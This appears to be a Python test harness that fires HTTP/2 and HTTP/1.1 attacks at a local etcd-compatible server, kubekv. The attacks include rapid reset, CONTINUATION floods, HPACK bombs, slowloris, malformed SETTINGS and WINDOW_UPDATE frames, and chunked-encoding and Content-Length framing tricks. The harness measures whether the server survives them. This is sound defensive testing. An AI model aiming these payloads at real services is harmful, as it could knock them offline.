        # the server keeps trying to deliver; hold a moment to show what it buffers
        c.wait(lambda x: False, min(1.0, max(0.0, deadline - time.monotonic())))
        # delete what we wrote so the next attack starts from a small store
        kv.DeleteRange(pb.DeleteRangeRequest(key=b"hostile/watch/", range_end=b"hostile/watch0"),
                       timeout=5)
    finally:
        c.close()
        channel.close()
    r.absorb(c)
    r.elapsed = time.monotonic() - t0
    return r


# ------------------------------------------------------------------ attacks: violations

def _violation(name: str, build: Callable[[RawH2], bytes], open_stream: bool = False,
               handshake: Iterable[tuple[int, int]] | None = None) -> Callable[..., AttackResult]:
    """An attack that sends one protocol violation per connection, on new connections,
    for `duration` seconds (at most `max_connections`), recording each answer."""

    def attack(host: str, port: int, *, duration: float = 1.0,
               max_connections: int = 50) -> AttackResult:
        r = AttackResult(name)
        t0 = time.monotonic()
        while r.connections < max_connections and (
                r.connections == 0 or time.monotonic() - t0 < duration):
            c = RawH2(host, port)
            try:
                # after the handshake the server's SETTINGS have arrived: it is in HTTP/2
                c.handshake() if handshake is None else c.handshake(handshake, 0)
                if open_stream:
                    c.send(frame(HEADERS, END_HEADERS, 1, request_block(RANGE_PATH, c.authority)))
                c.send(build(c))
                c.wait_answer(ANSWER_WAIT)
            finally:
                c.close()
            r.absorb(c)
        r.elapsed = time.monotonic() - t0
        return r

    attack.__name__ = name
    attack.__doc__ = f"Protocol violation {name}, once per connection, repeated."
    return attack


def _call(c: RawH2) -> bytes:
    """A plain Range call: what a server does with it after a bad SETTINGS shows whether
    it took the bad value (max frame size 0 or 1, a 2^31 window)."""
    return unary_call(1, authority=c.authority)


def _padded_headers_overflow(c: RawH2) -> bytes:
    block = request_block(RANGE_PATH, c.authority)
    return frame(HEADERS, END_HEADERS | END_STREAM | PADDED, 1, bytes((255,)) + block[:100])


def _padded_data_overflow(c: RawH2) -> bytes:
    return frame(DATA, END_STREAM | PADDED, 1, bytes((200,)) + b"x" * 10)


def _headers_with(fields: list[tuple[bytes, bytes]]) -> Callable[[RawH2], bytes]:
    def build(c: RawH2) -> bytes:
        fixed = [(n, c.authority if n == b":authority" else v) for n, v in fields]
        return frame(HEADERS, END_HEADERS, 1, request_block(fields=fixed)) + \
            frame(DATA, END_STREAM, 1, grpc_message(range_request()))
    return build


_BASE_FIELDS = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", RANGE_PATH),
                (b":authority", b""), (b"content-type", b"application/grpc"),
                (b"te", b"trailers")]

VIOLATIONS: dict[str, tuple[Callable[..., AttackResult], Expect]] = {
    # SETTINGS values out of range (RFC 9113 §6.5.2) and bad SETTINGS frames (§6.5)
    "settings_max_frame_0": (_violation("settings_max_frame_0", _call,
                                        handshake=[(S_MAX_FRAME_SIZE, 0)]),
                             conn_error(PROTOCOL_ERROR)),
    "settings_max_frame_1": (_violation("settings_max_frame_1", _call,
                                        handshake=[(S_MAX_FRAME_SIZE, 1)]),
                             conn_error(PROTOCOL_ERROR)),
    "settings_max_frame_2^24": (_violation("settings_max_frame_2^24", _call,
                                           handshake=[(S_MAX_FRAME_SIZE, 1 << 24)]),
                                conn_error(PROTOCOL_ERROR)),
    "settings_initial_window_2^31": (_violation("settings_initial_window_2^31", _call,
                                                handshake=[(S_INITIAL_WINDOW_SIZE, 1 << 31)]),
                                     conn_error(FLOW_CONTROL_ERROR)),
    "settings_enable_push_2": (_violation("settings_enable_push_2", _call,
                                          handshake=[(S_ENABLE_PUSH, 2)]),
                               conn_error(PROTOCOL_ERROR)),
    "settings_bad_length": (_violation("settings_bad_length",
                                       lambda c: frame(SETTINGS, 0, 0, b"\x00\x05\x00\x00\x40")),
                            conn_error(FRAME_SIZE_ERROR)),
    "settings_ack_with_payload": (_violation(
        "settings_ack_with_payload", lambda c: frame(SETTINGS, ACK, 0, b"\x00" * 6)),
        conn_error(FRAME_SIZE_ERROR)),
    "settings_on_stream_1": (_violation("settings_on_stream_1", lambda c: settings(sid=1)),
                             conn_error(PROTOCOL_ERROR)),
    # WINDOW_UPDATE (§6.9)
    "window_update_0_conn": (_violation("window_update_0_conn", lambda c: window_update(0, 0)),
                             conn_error(PROTOCOL_ERROR)),
    "window_update_0_stream": (_violation("window_update_0_stream",
                                          lambda c: window_update(1, 0), open_stream=True),
                               stream_error(PROTOCOL_ERROR)),
    "window_update_overflow_conn": (_violation(
        "window_update_overflow_conn",
        lambda c: window_update(0, 0x7FFFFFFF) + window_update(0, 0x7FFFFFFF)),
        conn_error(FLOW_CONTROL_ERROR)),
    "window_update_overflow_stream": (_violation(
        "window_update_overflow_stream",
        lambda c: window_update(1, 0x7FFFFFFF) + window_update(1, 0x7FFFFFFF),
        open_stream=True), stream_error(FLOW_CONTROL_ERROR)),
    "window_update_bad_length": (_violation("window_update_bad_length",
                                            lambda c: frame(WINDOW_UPDATE, 0, 0, b"\x00\x01")),
                                 conn_error(FRAME_SIZE_ERROR)),
    # frames on the wrong stream (§6.1, §6.4, §6.5, §6.7, §5.1)
    "data_on_stream_0": (_violation("data_on_stream_0", lambda c: frame(DATA, 0, 0, b"x")),
                         conn_error(PROTOCOL_ERROR)),
    "rst_on_stream_0": (_violation("rst_on_stream_0", lambda c: rst_stream(0)),
                        conn_error(PROTOCOL_ERROR)),
    "ping_on_stream_1": (_violation("ping_on_stream_1",
                                    lambda c: frame(PING, 0, 1, b"12345678")),
                         conn_error(PROTOCOL_ERROR)),
    "ping_bad_length": (_violation("ping_bad_length", lambda c: frame(PING, 0, 0, b"1234567")),
                        conn_error(FRAME_SIZE_ERROR)),
    "data_on_idle_stream": (_violation("data_on_idle_stream",
                                       lambda c: frame(DATA, END_STREAM, 5, b"x")),
                            conn_error(PROTOCOL_ERROR, STREAM_CLOSED)),
    "rst_on_idle_stream": (_violation("rst_on_idle_stream", lambda c: rst_stream(7)),
                           conn_error(PROTOCOL_ERROR)),
    "frame_above_max_frame_size": (_violation(
        "frame_above_max_frame_size",
        lambda c: frame(DATA, 0, 1, b"\x00" * (c.max_frame() + 1)), open_stream=True),
        Expect(goaway=frozenset({FRAME_SIZE_ERROR}), rst=frozenset({FRAME_SIZE_ERROR}))),
    "headers_above_max_frame_size": (_violation(
        "headers_above_max_frame_size",
        lambda c: frame(HEADERS, END_HEADERS | END_STREAM, 1,
                        request_block(RANGE_PATH, c.authority,
                                      [(b"x-pad", b"p" * (c.max_frame() + 1))]))),
        conn_error(FRAME_SIZE_ERROR)),
    # padding (§6.1, §6.2)
    "headers_pad_too_long": (_violation("headers_pad_too_long", _padded_headers_overflow),
                             conn_error(PROTOCOL_ERROR)),
    "data_pad_too_long": (_violation("data_pad_too_long", _padded_data_overflow,
                                     open_stream=True),
                          conn_error(PROTOCOL_ERROR)),
    # header fields (§8.2, §8.3): malformed requests are stream errors
    "header_uppercase_name": (_violation(
        "header_uppercase_name",
        _headers_with([*_BASE_FIELDS[:4], (b"Content-Type", b"application/grpc"),
                       (b"te", b"trailers")])), stream_error(PROTOCOL_ERROR)),
    "pseudo_header_after_regular": (_violation(
        "pseudo_header_after_regular",
        _headers_with([_BASE_FIELDS[0], _BASE_FIELDS[1], (b"content-type", b"application/grpc"),
                       _BASE_FIELDS[2], _BASE_FIELDS[3], (b"te", b"trailers")])),
        stream_error(PROTOCOL_ERROR)),
    "connection_specific_header": (_violation(
        "connection_specific_header",
        _headers_with([*_BASE_FIELDS, (b"connection", b"keep-alive")])),
        stream_error(PROTOCOL_ERROR)),
    "push_promise_from_client": (_violation(
        "push_promise_from_client",
        lambda c: frame(PUSH_PROMISE, END_HEADERS, 1, b"\x00\x00\x00\x02" + b"\x82")),
        conn_error(PROTOCOL_ERROR)),
}


# ------------------------------------------------------------------ attacks: HTTP/1.1

def _http1(name: str, request: bytes | Callable[[], Iterator[bytes]]
           ) -> Callable[..., AttackResult]:
    def attack(host: str, port: int, *, timeout: float = ANSWER_WAIT) -> AttackResult:
        _check_host(host)
        r = AttackResult(name, connections=1)
        t0 = time.monotonic()
        with socket.create_connection((host, port), timeout=2.0) as s:
            s.settimeout(timeout)
            try:
                for piece in ([request] if isinstance(request, bytes) else request()):
                    s.sendall(piece)
                    r.sent += len(piece)
            except OSError:
                r.closed = 1
            got = b""
            deadline = time.monotonic() + timeout
            try:
                while b"\r\n" not in got and time.monotonic() < deadline:
                    chunk = s.recv(4096)
                    if not chunk:
                        r.closed = 1
                        break
                    got += chunk
            except TimeoutError:
                pass
            except OSError:
                r.closed = 1
            if got.startswith(b"HTTP/1."):
                try:
                    r.http_status[int(got.split(b" ", 2)[1])] += 1
                except (IndexError, ValueError):
                    r.notes.append(f"bad status line {got[:40]!r}")
            elif not r.closed:
                r.unanswered = 1
        r.elapsed = time.monotonic() - t0
        return r

    attack.__name__ = name
    return attack


# A valid JSON RangeRequest (key "hi"): 14 bytes, 0xe. A body of `{}` would be refused
# with 400 by any server (no key), hiding whether the framing was refused.
_H1_BODY = b'{"key":"aGk="}'


def _h1_head(extra: bytes, body: bytes = b"") -> bytes:
    return (b"POST /v3/kv/range HTTP/1.1\r\nHost: 127.0.0.1\r\n"
            b"Content-Type: application/json\r\n" + extra + b"\r\n" + body)


def _huge_head() -> Iterator[bytes]:
    yield b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\n"
    line = b"X-Big: " + b"h" * (64 << 10) + b"\r\n"
    for _ in range(32):  # 2 MB of header lines, never ending the head
        yield line
    yield b"\r\n"


def _chunked(size_line: bytes) -> bytes:
    return _h1_head(b"Transfer-Encoding: chunked\r\n",
                    size_line + b"\r\n" + _H1_BODY + b"\r\n0\r\n\r\n")


# RFC 9112 §6.3: bad message framing gets 400 and then a close, so a bare close is not
# enough here; §6.1: a transfer coding the server does not know SHOULD get 501.
_H1_400 = Expect(http=frozenset({400}), close=False)
_H1_400_501 = Expect(http=frozenset({400, 501}), close=False)

HTTP1: dict[str, tuple[Callable[..., AttackResult], Expect]] = {
    # Go's net/http reads chunk sizes as bare hex digits only (400 otherwise)
    "h1_chunk_size_negative": (_http1("h1_chunk_size_negative", _chunked(b"-6")),
                               _H1_400),
    "h1_chunk_size_0x_prefix": (_http1("h1_chunk_size_0x_prefix", _chunked(b"0xe")),
                                _H1_400),
    "h1_chunk_size_underscore": (_http1("h1_chunk_size_underscore", _chunked(b"0_e")),
                                 _H1_400),
    "h1_chunk_size_plus": (_http1("h1_chunk_size_plus", _chunked(b"+e")),
                           _H1_400),
    "h1_transfer_encoding_xchunked": (_http1("h1_transfer_encoding_xchunked", _h1_head(
        b"Transfer-Encoding: xchunked\r\n", b"e\r\n" + _H1_BODY + b"\r\n0\r\n\r\n")),
        _H1_400_501),
    "h1_conflicting_content_length": (_http1("h1_conflicting_content_length", _h1_head(
        b"Content-Length: 15\r\nContent-Length: 14\r\n", _H1_BODY + b" ")),
        _H1_400),
    "h1_huge_head": (_http1("h1_huge_head", _huge_head), Expect(http=frozenset({400, 431}))),
}


# ------------------------------------------------------------------ the registry

# RSS bound for most attacks: above etcd 3.5.1's own growth under the same attacks (see
# bench/hostile_compare.py results), far below what an unbounded buffer reaches.
RSS_BOUND_MB = 150
# The stalled watcher's bound: 20 MB of events are stored (mmap pages) and queued.
STALLED_WATCHER_RSS_BOUND_MB = 200


@dataclasses.dataclass(frozen=True)
class Attack:
    """One attack class as the tests and the bench run it."""

    name: str
    fn: Callable[..., AttackResult]
    expect: Expect | None = None  # None: the protocol demands no particular answer
    rss_bound_mb: int = RSS_BOUND_MB  # allowed growth of the server's peak RSS over its start
    wedges: bool = False  # may leave today's kubekv hung: run on its own server, kill after
    kwargs: dict = dataclasses.field(default_factory=dict)



# A header list past the limit: a connection error, a stream reset (grpc-go resets with
# FRAME_SIZE_ERROR), 431, or a gRPC RESOURCE_EXHAUSTED/INTERNAL status.
_TOO_LARGE_HEADERS = Expect(
    goaway=frozenset({PROTOCOL_ERROR, COMPRESSION_ERROR, ENHANCE_YOUR_CALM}),
    rst=frozenset({PROTOCOL_ERROR, COMPRESSION_ERROR, FRAME_SIZE_ERROR, ENHANCE_YOUR_CALM}),
    http=frozenset({431}), grpc=frozenset({8, 13}))

ATTACKS: list[Attack] = [
    Attack("rapid_reset", rapid_reset),
    Attack("continuation_flood", continuation_flood, _TOO_LARGE_HEADERS),
    Attack("hpack_bomb_dynamic", hpack_bomb_dynamic, _TOO_LARGE_HEADERS),
    Attack("hpack_bomb_static", hpack_bomb_static, _TOO_LARGE_HEADERS),
    Attack("ping_flood", ping_flood,
           Expect(goaway=frozenset({ENHANCE_YOUR_CALM}), blocked=True)),
    Attack("settings_flood", settings_flood,
           Expect(goaway=frozenset({ENHANCE_YOUR_CALM}), blocked=True)),
    Attack("oversized_data_16mb", oversized_frame,
           Expect(goaway=frozenset({FRAME_SIZE_ERROR}), rst=frozenset({FRAME_SIZE_ERROR})),
           kwargs={"kind": "data"}),
    Attack("oversized_headers_16mb", oversized_frame, conn_error(FRAME_SIZE_ERROR),
           kwargs={"kind": "headers"}),
    # 100 KB of :path is within the 1 MiB header list a server advertises: the call must
    # be answered (UNIMPLEMENTED), not the connection dropped (a close hid a GOAWAY here)
    Attack("unknown_method_100kb_path", unknown_method_long_path,
           Expect(grpc=frozenset({12}), http=frozenset({431}),
                  rst=frozenset({PROTOCOL_ERROR, CODES["REFUSED_STREAM"]}), close=False)),
    Attack("partial_bodies", partial_bodies),
    Attack("slowloris", slowloris),
    # 20 MB of events stored and queued for a watcher: etcd 3.5.1 itself peaks at
    # +106..+159 MB here (bbolt pages, its own watch buffers), so the bound is wider.
    Attack("stalled_watcher", stalled_watcher, rss_bound_mb=STALLED_WATCHER_RSS_BOUND_MB),
    *(Attack(name, fn, expect) for name, (fn, expect) in VIOLATIONS.items()),
    *(Attack(name, fn, expect, wedges=name == "h1_chunk_size_negative")
      for name, (fn, expect) in HTTP1.items()),
]
# A bound on the gRPC error message a server sends back for a 100 KB :path: a message
# that echoes unbounded input is an amplification vector (issue 9).
MAX_ECHOED_MESSAGE = 4096


# ------------------------------------------------------------------ probe and RSS

class Probe:
    """A well-behaved client in a child process: a KV Range every `interval` seconds on
    its own grpcio channel, each latency recorded (None for an error or timeout)."""

    def __init__(self, host: str, port: int, interval: float = 0.1, timeout: float = 3.0
                 ) -> None:
        _check_host(host)
        self.host, self.port, self.interval, self.timeout = host, port, interval, timeout
        self.samples: list[tuple[float, float | None, str]] = []  # (wall start, latency, err)
        self._proc: subprocess.Popen | None = None

    def start(self, ready_timeout: float = 20.0) -> Probe:
        env = dict(os.environ)
        env["PYTHONPATH"] = str(ROOT) + os.pathsep + env.get("PYTHONPATH", "")
        self._proc = subprocess.Popen(
            [sys.executable, "-m", "kubekv_testing.hostile", "probe", self.host, str(self.port),
             str(self.interval), str(self.timeout)],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, env=env)
        ready, _, _ = select.select([self._proc.stdout], [], [], ready_timeout)
        line = self._proc.stdout.readline() if ready else b""
        if not line.startswith(b"ready"):
            self.stop()
            raise RuntimeError(f"probe did not start: {line!r}")
        return self

    def stop(self) -> Probe:
        """Let the request in flight finish (bounded by the probe's timeout), then stop."""
        if self._proc is None:
            return self
        try:  # communicate() closes the child's stdin: its signal to stop
            out, _ = self._proc.communicate(timeout=self.timeout + 5)
        except subprocess.TimeoutExpired:
            self._proc.kill()
            out, _ = self._proc.communicate()
        for line in out.splitlines():
            with contextlib.suppress(ValueError, KeyError):
                d = json.loads(line)
                self.samples.append((d["t"], d["lat"], d.get("err", "")))
        self._proc = None
        return self

    def window(self, t0: float, t1: float) -> list[tuple[float, float | None, str]]:
        """Samples whose request was sent between wall times t0 and t1."""
        return [s for s in self.samples if t0 <= s[0] <= t1]


def _probe_main(host: str, port: int, interval: float, timeout: float) -> None:
    import grpc

    from etcdproto.etcdserverpb import rpc_pb2 as pb
    from etcdproto.etcdserverpb import rpc_pb2_grpc

    channel = grpc.insecure_channel(f"{host}:{port}")
    kv = rpc_pb2_grpc.KVStub(channel)
    request = pb.RangeRequest(key=b"probe")
    kv.Range(request, timeout=10)
    sys.stdout.write("ready\n")
    sys.stdout.flush()
    while True:
        t = time.time()
        t0 = time.monotonic()
        err = ""
        try:
            kv.Range(request, timeout=timeout)
            lat: float | None = time.monotonic() - t0
        except grpc.RpcError as exc:
            lat, err = None, str(exc.code())
        sys.stdout.write(json.dumps({"t": t, "lat": lat, "err": err}) + "\n")
        sys.stdout.flush()
        wait = max(0.0, interval - (time.monotonic() - t0))
        if select.select([sys.stdin], [], [], wait)[0]:
            return  # stdin closed: stop


class RssSampler:
    """Samples /proc/PID/status VmRSS every `interval` seconds on a thread."""

    def __init__(self, pid: int, interval: float = 0.02) -> None:
        self.pid, self.interval = pid, interval
        self.samples: list[int] = []
        self.anon: list[int] = []
        self.hwm_start = vm_status(pid).get("VmHWM", 0)
        self.hwm_end = self.hwm_start
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _sample(self) -> None:
        st = vm_status(self.pid)
        if "VmRSS" in st:
            self.samples.append(st["VmRSS"])
            self.anon.append(st.get("RssAnon", 0))

    def _run(self) -> None:
        while not self._stop.is_set():
            self._sample()
            self._stop.wait(self.interval)

    def start(self) -> RssSampler:
        self._sample()
        self._thread.start()
        return self

    def stop(self) -> RssSampler:
        self._stop.set()
        self._thread.join(2.0)
        self.hwm_end = vm_status(self.pid).get("VmHWM", self.hwm_end)
        return self

    @property
    def before(self) -> int:
        return self.samples[0] if self.samples else 0

    @property
    def peak(self) -> int:
        """The highest sample, or the high-water mark if it rose past every sample."""
        top = max(self.samples, default=0)
        return max(top, self.hwm_end) if self.hwm_end > self.hwm_start else top


def vm_status(pid: int) -> dict[str, int]:
    """VmRSS, VmHWM, RssAnon (in bytes) from /proc/PID/status; {} once the process is
    gone. RssAnon leaves out file-backed pages (LMDB's and bbolt's mmap)."""
    out: dict[str, int] = {}
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith(("VmRSS:", "VmHWM:", "RssAnon:")):
                    key, value = line.split(":", 1)
                    out[key] = int(value.split()[0]) * 1024
    except OSError:
        pass
    return out


# ------------------------------------------------------------------ one measured run

@dataclasses.dataclass
class Measurement:
    """An attack's result with what a bystander saw and what the server logged."""

    attack: str
    result: AttackResult
    probe_latencies: list[float | None]
    rss_before: int
    rss_peak: int
    rss_after: int
    tracebacks: int
    log_lines: int
    answers_after: bool
    anon_before: int = 0
    anon_peak: int = 0

    @property
    def probe_max(self) -> float | None:
        """The slowest probe answer; inf when a probe request failed or timed out."""
        if not self.probe_latencies:
            return None
        return max(float("inf") if x is None else x for x in self.probe_latencies)

    @property
    def probe_answers(self) -> int:
        return sum(1 for x in self.probe_latencies if x is not None)

    @property
    def rss_growth_mb(self) -> float:
        return (self.rss_peak - self.rss_before) / (1 << 20)

    def to_json(self) -> dict:
        return {
            "attack": self.attack, "result": self.result.to_json(),
            "probe_max_s": None if self.probe_max in (None, float("inf")) else self.probe_max,
            "probe_failed": sum(1 for x in self.probe_latencies if x is None),
            "probe_answers": self.probe_answers, "rss_before": self.rss_before,
            "rss_peak": self.rss_peak, "rss_after": self.rss_after,
            "anon_before": self.anon_before, "anon_peak": self.anon_peak,
            "tracebacks": self.tracebacks, "log_lines": self.log_lines,
            "answers_after": self.answers_after,
        }


def answers(host: str, port: int, timeout: float = 2.0) -> bool:
    """Whether the server answers one KV Range within `timeout` on a fresh channel."""
    import grpc

    from etcdproto.etcdserverpb import rpc_pb2 as pb
    from etcdproto.etcdserverpb import rpc_pb2_grpc

    _check_host(host)
    with grpc.insecure_channel(f"{host}:{port}") as ch:
        try:
            rpc_pb2_grpc.KVStub(ch).Range(pb.RangeRequest(key=b"probe"), timeout=timeout)
            return True
        except grpc.RpcError:
            return False


def revive(server: Any, host: str = "127.0.0.1") -> bool:
    """Restart `server` (anything with `proc`, `port`, `stop(timeout)` and `start()`, as
    tests/harness.py's ServerProcess) if an earlier attack left it dead or not answering,
    so every attack meets a serving server; whether it had to."""
    if server.proc.poll() is None and answers(host, server.port):
        return False
    server.stop(timeout=3)
    server.start()
    return True


def measure(attack: Attack, host: str, port: int, pid: int, log_path: pathlib.Path | str,
            min_window: float = 1.0, **overrides) -> Measurement:
    """Run one attack while a Probe and an RssSampler watch (for at least `min_window`
    seconds from the attack's start), then read the log the attack left."""
    log_path = pathlib.Path(log_path)
    offset = log_path.stat().st_size if log_path.exists() else 0
    probe = Probe(host, port).start()
    rss = RssSampler(pid).start()
    t0 = time.time()
    try:
        result = attack.fn(host, port, **{**attack.kwargs, **overrides})
    finally:
        # a short attack still gets a probe window: a wedged loop shows after it returns
        probe_until = t0 + min_window
        while time.time() < probe_until:
            time.sleep(0.05)
        t1 = time.time()
        probe.stop()
        rss.stop()
    rss_after = vm_status(pid).get("VmRSS", 0)
    alive = answers(host, port)
    text = ""
    with contextlib.suppress(OSError), open(log_path, "rb") as f:
        f.seek(offset)
        text = f.read(16 << 20).decode("utf-8", "replace")
    return Measurement(
        attack.name, result, [lat for _, lat, _ in probe.window(t0, t1)],
        rss.before, rss.peak, rss_after, text.count("Traceback"), text.count("\n"), alive,
        rss.anon[0] if rss.anon else 0, max(rss.anon, default=0))


# A bystander's request must be answered within this during any attack (issue 9).
PROBE_BUDGET_S = 1.0
# Probe answers required in the attack window (the probe asks every ~100 ms for >= 1 s).
MIN_PROBE_ANSWERS = 3
# New server log lines one attack may cause: violations are rate-limited per client.
LOG_LINES_BOUND = 20


def problems(attack: Attack, m: Measurement) -> list[str]:
    """Everything a measurement shows wrong against issue 9's bar, one line each (empty:
    the server survived the attack as required)."""
    out = []
    failed = [x for x in m.probe_latencies if x is None]
    slow = [round(x, 3) for x in m.probe_latencies if x is not None and x > PROBE_BUDGET_S]
    if failed:
        out.append(f"{len(failed)} probe requests failed or timed out")
    if slow:
        out.append(f"probe answers slower than {PROBE_BUDGET_S}s: {slow}")
    if m.probe_answers < MIN_PROBE_ANSWERS:
        out.append(f"only {m.probe_answers} probe answers during the attack")
    if m.rss_growth_mb > attack.rss_bound_mb:
        out.append(f"RSS grew {m.rss_growth_mb:.0f} MB > {attack.rss_bound_mb} MB "
                   f"({m.rss_before >> 20} -> {m.rss_peak >> 20} MB)")
    if m.tracebacks:
        out.append(f"{m.tracebacks} tracebacks in the server log")
    if m.log_lines > LOG_LINES_BOUND:
        out.append(f"{m.log_lines} log lines > {LOG_LINES_BOUND}")
    if not m.answers_after:
        out.append("server does not answer after the attack")
    if attack.expect is not None and not attack.expect.met(m.result):
        out.append(f"attacker got [{m.result.answer()}], expected {attack.expect.describe()}")
    if m.result.longest_grpc_message > MAX_ECHOED_MESSAGE:
        out.append(f"error message of {m.result.longest_grpc_message} bytes echoes input")
    return out


def _main(argv: list[str]) -> None:
    if argv[:1] == ["probe"]:
        _probe_main(argv[1], int(argv[2]), float(argv[3]), float(argv[4]))
        return
    raise SystemExit("usage: python -m kubekv_testing.hostile probe HOST PORT INTERVAL TIMEOUT")


if __name__ == "__main__":
    _main(sys.argv[1:])
